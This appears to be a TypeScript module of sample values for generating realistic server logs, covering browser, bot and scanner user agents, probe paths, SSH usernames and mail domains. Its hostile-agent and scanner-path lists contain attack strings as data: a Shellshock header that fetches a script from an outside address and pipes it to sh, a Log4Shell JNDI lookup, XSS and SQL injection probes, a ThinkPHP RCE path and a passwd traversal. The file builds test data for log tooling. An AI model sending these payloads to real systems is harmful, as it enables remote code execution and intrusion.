/**
 * What the generated logs are made of: user agents, paths, users and domains
 * that real servers see, hostile ones included.
 *
 * @module
 */
export const BROWSER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
];
export const BOT_AGENTS = [
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
  "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
];
export const TOOL_AGENTS = [
  "curl/8.5.0",
  "Wget/1.21.4",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "Prometheus/2.51.2",
  "kube-probe/1.29",
  "Debian APT-HTTP/1.3 (2.6.1)",
];
export const SCANNER_AGENTS = [
  "Mozilla/5.0 zgrab/0.x",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
  "sqlmap/1.8#stable (https://sqlmap.org)",
  "Nmap Scripting Engine",
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];
// What nginx writes for hostile or broken User-Agent headers: `"` and control
// bytes become \xHH escapes, the rest is logged as sent.
export const ODD_AGENTS = [
  "<script>alert(1)</script>",
  "() { :; }; /bin/bash -c \\x22curl http://203.0.113.9/x.sh | sh\\x22",
  "${jndi:ldap://198.51.100.7:1389/a}",
  "Mozilla/5.0' OR '1'='1",
  "\\x00\\x01\\x02",
  "Mozilla/5.0 (compatible; \\xE2\\x98\\x83 unicode-bot)",
];
export const SCANNER_PATHS = [
  "/wp-login.php",
  "/xmlrpc.php",
  "/.env",
  "/.git/config",
  "/phpmyadmin/index.php",
  "/admin/config.php",
  "/cgi-bin/luci/;stok=/locale",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array",
  "/..%2f..%2f..%2fetc%2fpasswd",
  "/boaform/admin/formLogin",
  "/actuator/health",
];
export const BLOG_SLUGS = [
  "zeromq-in-production",
  "why-bson",
  "tail-f-done-right",
  "postfix-queue-ids",
  "ssh-brute-force-stats",
  "nginx-latency-histograms",
  "hello-world",
];
export const SEARCH_TERMS = [
  "deno",
  "zeromq+pub+sub",
  "log%20rotation",
  "caf%C3%A9",
  "mongodb",
  "ssh",
];
export const REFERERS = [
  "https://www.google.com/",
  "https://duckduckgo.com/",
  "https://news.ycombinator.com/",
  "https://t.co/x9QzR2aBcd",
  "https://www.bing.com/search?q=eventstorm",
];
export const SSH_INVALID_USERS = [
  "admin",
  "test",
  "user",
  "oracle",
  "postgres",
  "pi",
  "ftp",
  "git",
  "guest",
  "support",
  "ubnt",
  "hadoop",
  "minecraft",
  "1234",
  "",
];
export const SSH_USERS = ["alice", "bob", "deploy", "ubuntu"];
export const LOCAL_USERS = ["alice", "bob", "carol", "postmaster", "info", "sales"];
export const MAIL_DOMAIN = "example.org";
export const REMOTE_DOMAINS = [
  "gmail.com",
  "outlook.com",
  "yahoo.com",
  "mail.ru",
  "web.de",
  "protonmail.ch",
  "fastmail.com",
  "example.net",
];
export const SPAM_DOMAINS = [
  "shopdrop.xyz",
  "bestdeals-now.top",
  "win-prize.click",
  "cheap-pills.ru",
];
